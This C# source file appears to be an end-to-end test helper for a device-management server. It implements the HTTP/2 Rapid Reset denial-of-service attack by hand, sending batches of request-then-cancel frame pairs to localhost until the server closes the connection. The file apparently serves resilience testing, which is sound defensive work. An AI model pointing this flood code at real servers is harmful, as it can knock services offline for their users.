using System.Buffers.Binary;
using System.Text;

namespace FleetMdm.EndToEnd.Faults;

/// <summary>HTTP/2 by hand (RFC 9113): requests that are taken back as soon as they were made, as fast as they can be sent.</summary>
internal static class RapidReset
{
    private const int PairsAWrite = 50;
    private const byte Headers = 1, ResetStream = 3, Settings = 4;
    private const byte EndOfHeadersAndStream = 0x5;

    /// <summary>GET https://localhost/ca.pem, in HPACK without any table (RFC 7541).</summary>
    private static readonly byte[] Request = [0x82, 0x87, .. Literal(4, "/ca.pem"), .. Literal(1, "localhost")];

    /// <summary>CANCEL.</summary>
    private static readonly byte[] Cancel = [0, 0, 0, 8];

    /// <summary>Sends that many requests, and takes back each of them, until the server has had enough.</summary>
    /// <returns>How many were sent before the connection ended.</returns>
    public static async Task<int> Flood(RawClient client, int requests)
    {
        await client.Send((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])]);
        // What it answers is read, so that nothing but the flood fills the connection.
        var answers = client.ReadToEnd();
        var sent = 0;
        try
        {
            while (sent < requests && !answers.IsCompleted)
            {
                var bytes = new List<byte>();
                for (var pair = 0; pair < PairsAWrite; pair++, sent++)
                {
                    var stream = (2 * sent) + 1;
                    bytes.AddRange(Frame(Headers, EndOfHeadersAndStream, stream, Request));
                    bytes.AddRange(Frame(ResetStream, 0, stream, Cancel));
                }

                await client.Send(bytes.ToArray());
            }
        }
        catch (IOException)
        {
            // It has had enough.
        }

        client.Reset();
        await answers;
        return sent;
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
